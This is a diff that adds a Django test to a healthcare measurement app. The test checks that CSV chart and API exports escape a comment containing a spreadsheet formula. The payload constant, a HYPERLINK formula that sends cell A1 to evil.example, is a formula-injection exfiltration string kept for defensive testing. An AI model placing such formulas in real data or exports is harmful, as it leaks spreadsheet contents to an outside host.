@@ -538,3 +538,33 @@ def test_breadcrumbs_show_the_line_to_a_coordinator_above(client, login, with_da
     body = client.get("/measurement/W1/").content.decode()
     assert 'href="/measurement/H1/"' in body
     assert 'href="/measurement/T1/"' not in body  # a hospital role does not reach the trust
+
+
+FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1)'
+
+
+def _formula_comment(tree, measures):
+    services.data_value_upsert(unit=tree["W1"], measure=measures["falls.rate"],
+                               period=_months(1)[0], numerator=3, denominator=1000,
+                               comment=FORMULA_COMMENT, actor=None)
+
+
+def test_chart_csv_and_api_export_write_a_formula_comment_as_text(client, login, with_data,
+                                                                    tree):
+    import csv as csv_module
+    import io
+    import json
+
+    _formula_comment(tree, with_data)
+    login(("W1", "reporter"))
+    chart = client.get("/measurement/W1/measures/falls.rate/chart.csv").content.decode()
+    exported = client.get("/api/v1/measurement/units/W1/export?format=csv").content.decode()
+    for text in (chart, exported):
+        cells = [c for row in csv_module.reader(io.StringIO(text)) for c in row]
+        assert "'" + FORMULA_COMMENT in cells
+        assert not [c for c in cells if c.startswith("=")]
+    result = client.post("/api/v1/measurement/imports", json.dumps(
+        {"format": "csv", "text": exported}), content_type="application/json")
+    assert result.json()["counts"]["updated"] == 0  # the comment reads back as it was
+    assert DataValue.objects.get(unit=tree["W1"], comment__startswith="=").comment \
+        == FORMULA_COMMENT
